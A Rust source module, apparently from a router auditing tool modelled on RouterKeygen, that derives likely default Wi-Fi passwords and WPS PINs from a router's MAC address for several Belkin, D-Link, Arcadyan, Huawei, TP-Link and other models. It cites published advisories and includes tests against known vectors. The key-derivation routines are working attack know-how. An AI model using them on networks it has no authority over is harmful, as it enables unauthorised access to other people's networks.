//! Passwords that routers made from the digits of the hardware address alone, by rearranging, substituting or adding them.
//!
//! Sources: Belkin, CVE-2012-4366 and RouterKeygen's `BelkinKeygen`; Arcadyan EasyBox and Speedport, SEC Consult advisory
//! 20130805-0 and `ArcadyanKeygen`; the rest as in RouterKeygen: D-Link in `DlinkKeygen`, Huawei HG5xx in `HuaweiKeygen`,
//! TP-Link and Wifimedia in `TplinkKeygen` and `WifimediaRKeygen`, Discus in `DiscusKeygen`; the PIN of WPS from the end of
//! the address, with the check digit of hostapd's `wps_pin_checksum`. The test vectors are those published with them.

use super::{Identifiers, shifted};

type Yield<'a> = &'a mut dyn FnMut(&[u8]);

fn digits(mac: [u8; 6]) -> [u8; 12] {
    let mut digits = [0; 12];
    for (pair, byte) in digits.chunks_mut(2).zip(mac) {
        pair.copy_from_slice(&[byte >> 4, byte & 15]);
    }
    digits
}

fn text(digits: &[u8], alphabet: &[u8; 16]) -> Vec<u8> {
    digits.iter().map(|d| alphabet[usize::from(*d & 15)]).collect()
}

const UPPER: &[u8; 16] = b"0123456789ABCDEF";
const LOWER: &[u8; 16] = b"0123456789abcdef";

/// Eight digits of the address or of one of the two after it, in one of three orders, through one of two substitutions.
pub(super) fn belkin(ids: &Identifiers, give: Yield) {
    const ORDERS: [[usize; 8]; 3] =
        [[6, 2, 3, 8, 5, 1, 7, 4], [1, 2, 3, 8, 5, 1, 7, 4], [1, 2, 3, 8, 5, 6, 7, 4]];
    const SUBSTITUTIONS: [&[u8; 16]; 2] = [b"024613578ACE9BDF", b"944626378ace9bdf"];
    for step in 0..3 {
        let digits = digits(shifted(ids.mac, step));
        for order in ORDERS {
            let taken = order.map(|at| digits[3 + at]);
            SUBSTITUTIONS.iter().for_each(|letters| give(&text(&taken, letters)));
        }
    }
}

/// Twenty digits of the address in one order, through one substitution.
pub(super) fn d_link(ids: &Identifiers, give: Yield) {
    const ORDER: [usize; 20] = [11, 0, 10, 1, 9, 2, 8, 3, 7, 4, 6, 5, 1, 6, 8, 9, 11, 2, 4, 10];
    let digits = digits(ids.mac);
    give(&text(&ORDER.map(|at| digits[at]), b"XrqaHNpdSYw86215"));
}

/// Sums and XORs of the last four digits and of the five decimal digits of the same number.
pub(super) fn arcadyan(ids: &Identifiers, give: Yield) {
    let mac = digits(ids.mac);
    let [m9, m10, m11, m12] = [mac[8], mac[9], mac[10], mac[11]];
    let last = u16::from_be_bytes([ids.mac[4], ids.mac[5]]);
    let serial = |weight: u16| u8::try_from(last / weight % 10).unwrap_or(0);
    let [s7, s8, s9, s10] = [1000, 100, 10, 1].map(serial);
    let k1 = (s7 + s8 + m11 + m12) & 15;
    let k2 = (m9 + m10 + s9 + s10) & 15;
    let key = [k1 ^ s10, k2 ^ m10, m11 ^ s10, k1 ^ s9, k2 ^ m11, m12 ^ s9, k1 ^ s8, k2 ^ m12, k1 ^ k2];
    let key = text(&key, UPPER);
    give(&key);
    let without_zero: Vec<u8> = key.iter().map(|c| if *c == b'0' { b'1' } else { *c }).collect();
    give(&without_zero);
}

/// Five characters, each a linear function of all twelve digits over GF(2), written as the hexadecimal of its ASCII.
pub(super) fn huawei(ids: &Identifiers, give: Yield) {
    // For each character its constant, and for each digit what its bits 8, 4, 2 and 1 add, a hexadecimal digit each.
    const LINEAR: [(u8, [u16; 12]); 5] = [
        (13, [0xa5ad, 0x69de, 0x2108, 0xc6b5, 0xe731, 0x84, 0x84, 0xa5ad, 0, 0x8421, 0xd631, 0]),
        (4, [0xc615, 0xa4ad, 0x84, 0x2108, 0xa5ad, 0xe731, 0x8421, 0x84, 0, 0, 0x294a, 0xd631]),
        (7, [0xf731, 0x84, 0xa5ad, 0x6bde, 0x2108, 0xc6b5, 0xe731, 0x84, 0x84, 0xa5ad, 0, 0x8421]),
        (14, [0x6b4e, 0xf631, 0xc6b5, 0xa5ad, 0x84, 0x2108, 0xa5ad, 0xe731, 0x8421, 0x84, 0, 0]),
        (7, [0xa509, 0xc431, 0xf731, 0x84, 0xa5ad, 0x6bde, 0x2108, 0xc6b5, 0xe731, 0x84, 0x84, 0xa5ad]),
    ];
    let digits = digits(ids.mac);
    let key: Vec<u8> = LINEAR
        .iter()
        .flat_map(|(constant, matrix)| {
            let value = digits.iter().zip(matrix).fold(*constant, |sum, (digit, columns)| {
                (0..4)
                    .filter(|bit| digit >> bit & 1 == 1)
                    .fold(sum, |sum, bit| sum ^ (columns >> (4 * bit) & 15) as u8)
            });
            // '0' to '9' and 'a' to 'f' are 30 to 39 and 61 to 66.
            let ascii = LOWER[usize::from(value & 15)];
            [LOWER[usize::from(ascii >> 4)], LOWER[usize::from(ascii & 15)]]
        })
        .collect();
    give(&key);
}

/// The end of the address (TP-Link), or all of it with the last digit 0 (Wifimedia).
pub(super) fn end_of_address(ids: &Identifiers, give: Yield) {
    let mut digits = digits(ids.mac);
    give(&text(&digits[4..], UPPER));
    digits[11] = 0;
    give(&text(&digits, UPPER));
    give(&text(&digits, LOWER));
}

/// The last three bytes in decimal, seven digits of it, and the check digit of WPS.
pub(super) fn wps_pin(ids: &Identifiers, give: Yield) {
    let seven = ids.nic() % 10_000_000;
    give(format!("{seven:07}{}", wps_check_digit(seven)).as_bytes());
}

fn wps_check_digit(seven: u32) -> u32 {
    let digit = |place: u32| seven / 10u32.pow(place) % 10;
    let sum: u32 = (0..7).map(|place| digit(place) * if place % 2 == 0 { 3 } else { 1 }).sum();
    (10 - sum % 10) % 10
}

/// A quarter of the last three bytes less a constant.
pub(super) fn discus(ids: &Identifiers, give: Yield) {
    if let Some(above) = ids.nic().checked_sub(0xd0_ec31) {
        give(format!("YW0{}", above >> 2).as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::gives;
    use super::*;

    #[test]
    fn published_passwords_come_out() {
        gives(belkin, "94:44:52:00:C0:DE", "", "", "040D93B0");
        gives(belkin, "94:44:52:00:CE:D0", "", "", "d49496b9");
        gives(d_link, "12:34:56:78:9A:BC", "", "", "6r8qwaYHSNdpqdYw6aN8");
        gives(arcadyan, "00:12:BF:91:0B:EC", "", "", "F9C8C9DEF");
        gives(arcadyan, "74:31:70:33:00:11", "", "", "58639029A");
        gives(arcadyan, "74:31:70:33:00:11", "", "", "58639129A");
        gives(huawei, "64:16:F0:35:1C:FD", "", "", "3432333133");
        gives(end_of_address, "F8:D1:11:1E:28:A5", "", "", "111E28A5");
        gives(end_of_address, "00:26:5B:1E:28:A5", "", "", "00265b1e28a0");
        gives(discus, "00:1C:A2:DA:1C:C5", "", "", "YW0150565");
    }

    #[test]
    fn a_wps_pin_ends_in_its_check_digit() {
        assert_eq!((wps_check_digit(1_234_567), wps_check_digit(5_967_201)), (0, 2));
        gives(wps_pin, "C8:3A:35:5B:0D:61", "", "", "59672012");
    }
}
